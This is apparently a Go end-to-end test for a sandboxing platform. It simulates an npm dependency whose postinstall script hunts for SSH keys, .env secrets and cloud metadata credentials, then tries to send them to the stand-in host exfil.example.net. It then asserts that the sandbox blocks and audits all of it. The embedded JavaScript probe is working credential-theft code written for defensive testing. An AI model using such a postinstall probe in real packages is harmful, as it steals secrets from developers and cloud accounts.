package runs_test

import (
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/uuid"

	"github.com/stockade-dev/stockade/hypervisor/image"
	"github.com/stockade-dev/stockade/sandbox/egress"
	"github.com/stockade-dev/stockade/sandbox/runs"
	"github.com/stockade-dev/stockade/sandbox/sandboxtest"
	"github.com/stockade-dev/stockade/tenants/audit"
)

// The article's task, end to end on a real VM: an agent told to "fix the
// dependency issue and run the project's tests" runs `npm install && npm
// test` on a repository whose dependency hides a malicious install script.
// The repository is served by git http-backend on 127.0.0.1; the
// dependency is published to a real npm registry (verdaccio) on 127.0.0.1
// that the sandbox reaches only through the egress gateway, by a name the
// policy allows. The dependency's postinstall tries to read SSH keys, every
// .env outside /workspace, files of the host, the cloud metadata address
// and a domain the policy does not allow, and writes what it found. The
// tests pass, the postinstall finds nothing, the denied connections are in
// the egress events and the audit log, and GitHub and Slack hear of it.

// probeJS is the malicious postinstall. hostPaths (JSON) are files of the
// host the test planted: their contents must never reach the sandbox.
// Everything it finds goes in "found"; what it tried in "tried"; .env
// files inside /workspace (the project's own, which it may read) in
// "workspace_env", to show the search works.
const probeJS = `const fs = require("fs"), path = require("path"), http = require("http"), net = require("net"), os = require("os");
const hostPaths = %s;
const report = {tried: [], found: [], workspace_env: [], denied: []};
function read(p) {
  report.tried.push("read " + p);
  try {
    const st = fs.statSync(p);
    if (st.isDirectory()) {
      const names = fs.readdirSync(p);
      if (names.length) report.found.push(p + ": " + names.join(","));
    } else {
      report.found.push(p + ": " + fs.readFileSync(p, "utf8").slice(0, 200));
    }
  } catch (e) {}
}
// SSH keys: this user's, root's, and the host's planted ones.
[path.join(os.homedir(), ".ssh"), "/root/.ssh", "/home/sandbox/.ssh"].concat(hostPaths).forEach(read);
// Every .env on the file system.
report.tried.push("find / -name .env");
(function walk(dir) {
  if (["/proc", "/sys", "/dev"].includes(dir)) return;
  let ents = [];
  try { ents = fs.readdirSync(dir, {withFileTypes: true}); } catch (e) { return; }
  for (const e of ents) {
    const p = path.join(dir, e.name);
    if (e.isDirectory()) walk(p);
    else if (e.name === ".env") {
      if (p.startsWith("/workspace/")) report.workspace_env.push(p); else read(p);
    }
  }
})("/");
// The network: the metadata address and a host the policy does not
// allow, directly and through the proxy the sandbox is given.
function direct(host, port) {
  report.tried.push("connect " + host + ":" + port);
  return new Promise(done => {
    const s = net.connect({host, port, timeout: 5000}, () => { report.found.push("connected to " + host + ":" + port); s.destroy(); done(); });
    s.on("error", () => done()); s.on("timeout", () => { s.destroy(); done(); });
  });
}
function viaProxy(url) {
  report.tried.push("GET " + url + " via " + (process.env.HTTP_PROXY || "no proxy"));
  const proxy = new URL(process.env.HTTP_PROXY || "http://127.0.0.1:9");
  return new Promise(done => {
    const req = http.request({host: proxy.hostname, port: proxy.port, path: url, headers: {Host: new URL(url).host}, timeout: 10000}, res => {
      let body = "";
      res.on("data", d => body += d);
      res.on("end", () => {
        if (res.statusCode === 200) report.found.push(url + ": " + body.slice(0, 200)); else report.denied.push(url + ": " + res.statusCode);
        done();
      });
    });
    req.on("error", () => done()); req.on("timeout", () => { req.destroy(); done(); });
    req.end();
  });
}
(async () => {
  await direct("169.254.169.254", 80);
  await viaProxy("http://169.254.169.254/latest/meta-data/iam/security-credentials/");
  await direct("exfil.example.net", 80);
  await viaProxy("http://exfil.example.net/collect?k=" + encodeURIComponent(report.found.join(";")));
  fs.writeFileSync(path.join(process.env.INIT_CWD, "probe-report.json"), JSON.stringify(report));
  console.log("probe: tried " + report.tried.length + ", found " + report.found.length);
})();
`

// TestArticleNPMInstallOnVM is the article's task (issue 18, acceptance 1).
func TestArticleNPMInstallOnVM(t *testing.T) {
	if testing.Short() {
		t.Skip("boots a VM")
	}
	const (
		repo         = "acme/web"
		branch       = "fix/deps"
		gitHost      = "git.example.com"
		registryHost = "registry.example.com"
		number       = 7
		hostCanary   = "host-canary-9f3e1c7a"
	)
	reg := sandboxtest.StartNPMRegistry(t)
	_, regPort, _ := net.SplitHostPort(reg.Addr)

	// Files of the host the probe goes after: a key and a .env.
	hostDir := t.TempDir()
	hostFiles := map[string]string{".ssh/id_ed25519": "-----BEGIN OPENSSH PRIVATE KEY----- " + hostCanary, ".env": "AWS_SECRET_ACCESS_KEY=" + hostCanary}
	var hostPaths []string
	for name, body := range hostFiles {
		p := filepath.Join(hostDir, name)
		hostPaths = append(hostPaths, p, filepath.Dir(p))
		if err := os.MkdirAll(filepath.Dir(p), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(body), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	slices.Sort(hostPaths)
	hostPaths = slices.Compact(hostPaths)
	paths, _ := json.Marshal(hostPaths)

	// The dependency: a working left pad, and the postinstall.
	pkg := t.TempDir()
	for name, body := range map[string]string{
		"package.json": `{"name":"pad-left-fast","version":"2.1.0","main":"index.js","scripts":{"postinstall":"node probe.js"}}`,
		"index.js":     `module.exports = (s, n, c) => String(s).padStart(n, c === undefined ? " " : c);`,
		"probe.js":     fmt.Sprintf(probeJS, paths),
	} {
		if err := os.WriteFile(filepath.Join(pkg, name), []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	reg.Publish(t, pkg)

	// The project: its tests use the dependency; its own .env is in the
	// checkout, which the probe may read.
	gitSrv := newGitServer(t)
	sha := gitSrv.push(t, repo, branch, map[string]string{"README.md": "web\n"}, map[string]string{
		"package.json": `{"name":"web","version":"1.0.0","private":true,"scripts":{"test":"node test.js"},"dependencies":{"pad-left-fast":"^2.1.0"}}`,
		"test.js": `const assert = require("assert"); const pad = require("pad-left-fast");
assert.strictEqual(pad(5, 3, "0"), "005"); assert.strictEqual(pad("ab", 4), "  ab"); console.log("2 tests passed");`,
		".env": "DATABASE_URL=postgres://workspace-only",
	})

	var (
		mu       sync.Mutex
		statuses []string
	)
	github := newAPI(t, func(r *http.Request, body []byte) (int, string, string) {
		if r.Method != http.MethodPost || r.Header.Get("Authorization") != "Bearer "+e2eToken {
			return 401, `{"message":"Bad credentials"}`, "auth"
		}
		switch r.URL.Path {
		case "/repos/" + repo + "/statuses/" + sha:
			var st struct{ State, Context string }
			if err := json.Unmarshal(body, &st); err != nil || st.Context != "stockade/npm-test" {
				return 422, `{"message":"Validation Failed"}`, "status " + string(body)
			}
			mu.Lock()
			statuses = append(statuses, st.State)
			mu.Unlock()
			return 201, `{"id":1}`, ""
		case fmt.Sprintf("/repos/%s/issues/%d/comments", repo, number):
			return 201, `{"id":1}`, ""
		}
		return 404, `{"message":"Not Found"}`, "unknown path"
	})
	slack := newAPI(t, func(r *http.Request, body []byte) (int, string, string) {
		var m struct{ Text string }
		if r.Method != http.MethodPost || r.URL.Path != "/services/T0001/B0002/XXXXXXXX" || json.Unmarshal(body, &m) != nil ||
			!strings.Contains(m.Text, "npm-test") || !strings.Contains(m.Text, "succeeded") {
			return 400, "invalid_payload", "message " + string(body)
		}
		return 200, "ok", ""
	})
	jira := newAPI(t, func(*http.Request, []byte) (int, string, string) { return 404, "{}", "the workflow names no Jira" })

	e := newE2E(t, gitSrv, gitHost, github, slack, jira, e2eExtra{templates: []string{image.TemplateNode, image.TemplateBuild}, hosts: []string{registryHost}})
	if _, err := e.wf.Save(bg, admin, e.tenant.ID, []byte(`name: npm-test
triggers: [{event: pull_request}]
repositories: [`+repo+`]
sandbox: {template: node, memory_mib: 512}
timeout_seconds: 3600
steps:
  - name: node
    run: node -e 'console.log("node", process.version)'
  - name: npm install && npm test
    timeout_seconds: 3000
    run: |
      cd "$STOCKADE_CHECKOUT_DIR"
      printf 'registry=http://`+registryHost+`:`+regPort+`/\nupdate-notifier=false\naudit=false\nfund=false\n' > .npmrc
      start=$(date +%s%N)
      npm install --foreground-scripts --loglevel=http && echo "npm install took $(( ($(date +%s%N) - start) / 1000000 )) ms" && npm test
  - name: report
    run: cat "$STOCKADE_CHECKOUT_DIR/probe-report.json"
notify:
  github: {token_secret: GH_TOKEN}
  slack: {webhook_url_secret: SLACK_URL}
`), nil); err != nil {
		t.Fatalf("save the workflow: %v", err)
	}
	code, a := deliver(t, e.url, "acme", "pull_request", uuid.NewString(), []byte(hookSecret), pullRequestPayload(repo, branch, sha, number))
	if code != http.StatusAccepted || len(a.Runs) != 1 {
		t.Fatalf("Got(POST the pull_request delivery) = %d %+v; want 202 with one run", code, a)
	}
	r, steps := e.waitEndedWithin(t, a.Runs[0], 60*time.Minute)
	for _, st := range steps {
		exit := -1
		if st.ExitCode != nil {
			exit = *st.ExitCode
		}
		t.Logf("step %q exit %d in %d ms:\n%s", st.Name, exit, st.DurationMS, st.Output)
	}
	if r.State != runs.StateSucceeded || len(steps) != 3 {
		t.Fatalf("Got(run) = %s (%q), %d steps; want succeeded, 3 steps", r.State, r.StateReason, len(steps))
	}
	steps = steps[1:] // node's version, for the log
	if out := steps[0].Output; !strings.Contains(out, "added 1 package") || !strings.Contains(out, "2 tests passed") {
		t.Errorf("Got(npm install && npm test output) = %q; want the dependency added and the tests passed", out)
	}
	if m := regexp.MustCompile(`npm install took (\d+) ms`).FindStringSubmatch(steps[0].Output); m != nil {
		t.Logf("npm install in the node template (TCG): %s ms", m[1])
	}

	// What the postinstall found: nothing, though it looked everywhere.
	var rep struct {
		Tried, Found, Denied []string
		WorkspaceEnv         []string `json:"workspace_env"`
	}
	if err := json.Unmarshal([]byte(strings.TrimSpace(steps[1].Output)), &rep); err != nil {
		t.Fatalf("Got(probe report) = %q: %v; want its JSON", steps[1].Output, err)
	}
	if len(rep.Found) != 0 {
		t.Errorf("Got(what the postinstall found) = %q; want nothing", rep.Found)
	}
	wantTried := append([]string{"read /root/.ssh", "read /home/sandbox/.ssh", "find / -name .env", "connect 169.254.169.254:80",
		"connect exfil.example.net:80"}, func() (s []string) {
		for _, p := range hostPaths {
			s = append(s, "read "+p)
		}
		return s
	}()...)
	for _, w := range wantTried {
		if !slices.Contains(rep.Tried, w) {
			t.Errorf("Got(what the postinstall tried) = %q; want %q among them", rep.Tried, w)
		}
	}
	if len(rep.WorkspaceEnv) != 1 || !strings.HasPrefix(rep.WorkspaceEnv[0], "/workspace/") {
		t.Errorf("Got(.env files it saw in /workspace) = %q; want the project's own (the search works)", rep.WorkspaceEnv)
	}
	for _, st := range steps {
		if strings.Contains(st.Output, hostCanary) {
			t.Errorf("Got(step %q output) holds the host's canary", st.Name)
		}
	}

	// The denied connections: in the egress events and the audit log; the
	// registry's allowed.
	evs, err := e.events.Events(bg, e.tenant.ID, egress.Filter{SandboxID: r.SandboxID})
	if err != nil {
		t.Fatal(err)
	}
	decided := map[string]string{}
	for _, ev := range evs {
		if decided[ev.Host] != egress.DecisionDeny {
			decided[ev.Host] = ev.Decision
		}
	}
	for host, want := range map[string]string{registryHost: egress.DecisionAllow, "169.254.169.254": egress.DecisionDeny, "exfil.example.net": egress.DecisionDeny} {
		if decided[host] != want {
			t.Errorf("Got(egress decision for %s) = %q; want %q (events %+v)", host, decided[host], want, evs)
		}
	}
	logged, err := e.audit.List(bg, e.tenant.ID, audit.Filter{Type: audit.TypeEgressDenied})
	if err != nil {
		t.Fatal(err)
	}
	deniedHosts := map[string]bool{}
	for _, ev := range logged {
		if ev.TargetID == r.SandboxID {
			h, _ := ev.Details["host"].(string)
			deniedHosts[h] = true
		}
	}
	if !deniedHosts["169.254.169.254"] || !deniedHosts["exfil.example.net"] {
		t.Errorf("Got(egress.denied audit events of the sandbox) = %v; want 169.254.169.254 and exfil.example.net", deniedHosts)
	}

	// GitHub (pending, then success, and a comment) and Slack heard.
	var gh, slk, ghErr, slkErr []string
	for deadline := time.Now().Add(30 * time.Second); time.Now().Before(deadline); time.Sleep(100 * time.Millisecond) {
		gh, ghErr = github.requests()
		slk, slkErr = slack.requests()
		if len(gh) >= 3 && len(slk) >= 1 {
			break
		}
	}
	mu.Lock()
	got := strings.Join(statuses, ",")
	mu.Unlock()
	if got != "pending,success" || len(gh) != 3 || len(ghErr) > 0 {
		t.Errorf("Got(GitHub) = statuses %q, requests %q, refused %q; want pending,success and a comment", got, gh, ghErr)
	}
	if len(slk) != 1 || len(slkErr) > 0 {
		t.Errorf("Got(Slack requests) = %q, refused %q; want one message", slk, slkErr)
	}

	t.Run("a workflow in the build template compiles and runs C and C++", func(t *testing.T) {
		buildTemplateRun(t, e)
	})
}

// buildTemplateRun runs a manual workflow in the build template that
// builds a C and a C++ program with make, and runs them.
func buildTemplateRun(t *testing.T, e *e2eEnv) {
	if _, err := e.wf.Save(bg, admin, e.tenant.ID, []byte(`name: c-build
triggers: [{event: manual}]
checkout: false
sandbox: {template: build, memory_mib: 512}
timeout_seconds: 900
steps:
  - name: make
    run: |
      mkdir -p /workspace/c && cd /workspace/c
      cat > hello.c <<'C'
      #include <stdio.h>
      int main(void) { printf("hello from C, gcc %s\n", __VERSION__); return 0; }
      C
      cat > sum.cc <<'CC'
      #include <iostream>
      #include <vector>
      int main() { std::vector<int> v{1, 2, 3}; int s = 0; for (int x : v) s += x; std::cout << "sum " << s << std::endl; }
      CC
      printf 'all: hello sum\nhello: hello.c\n\tgcc -O2 -o $@ $<\nsum: sum.cc\n\tg++ -O2 -std=c++17 -o $@ $<\n' > Makefile
      pkg-config --version && make -s && ./hello && ./sum
`), nil); err != nil {
		t.Fatalf("save the build workflow: %v", err)
	}
	r, err := e.engine.StartManual(bg, admin, e.tenant.ID, "c-build", runs.Manual{})
	if err != nil {
		t.Fatalf("StartManual(c-build) = %v", err)
	}
	r, steps := e.waitEndedWithin(t, r.ID, 15*time.Minute)
	if r.State != runs.StateSucceeded || len(steps) != 1 {
		t.Fatalf("Got(build run) = %s (%q), %d steps; want succeeded, 1 step", r.State, r.StateReason, len(steps))
	}
	out := steps[0].Output
	t.Logf("build template step in %d ms:\n%s", steps[0].DurationMS, out)
	if !strings.Contains(out, "hello from C, gcc 12.") || !strings.Contains(out, "sum 6") {
		t.Errorf("Got(make && ./hello && ./sum) = %q; want both programs built and run", out)
	}
}

// waitEndedWithin is waitEnded for runs that take long under TCG (Node on
// an emulated CPU): it waits up to limit and, when the run has not ended
// by then, fails showing its live log.
func (e *e2eEnv) waitEndedWithin(t *testing.T, id string, limit time.Duration) (runs.Run, []runs.Step) {
	t.Helper()
	begin, n := time.Now(), 0
	for {
		r, steps, err := e.engine.Store().Get(bg, e.tenant.ID, id)
		if err != nil {
			t.Fatal(err)
		}
		if r.State.Ended() {
			t.Logf("run %s %s after %v: %s", r.ID, r.State, time.Since(begin).Round(time.Millisecond), r.StateReason)
			return r, steps
		}
		live := func() string {
			if l, ok := e.engine.Log(e.tenant.ID, id); ok {
				past, _, sub := l.Subscribe()
				sub.Close()
				return string(past)
			}
			return "(not executing)"
		}
		if time.Since(begin) > limit {
			t.Fatalf("run %s is %s after %v; want it ended. Its log:\n%s", id, r.State, limit, live())
		}
		if n++; n%120 == 0 {
			l := live()
			t.Logf("run %s %s after %v, its log ends: %q", id, r.State, time.Since(begin).Round(time.Second), l[max(0, len(l)-300):])
		}
		time.Sleep(time.Second)
	}
}
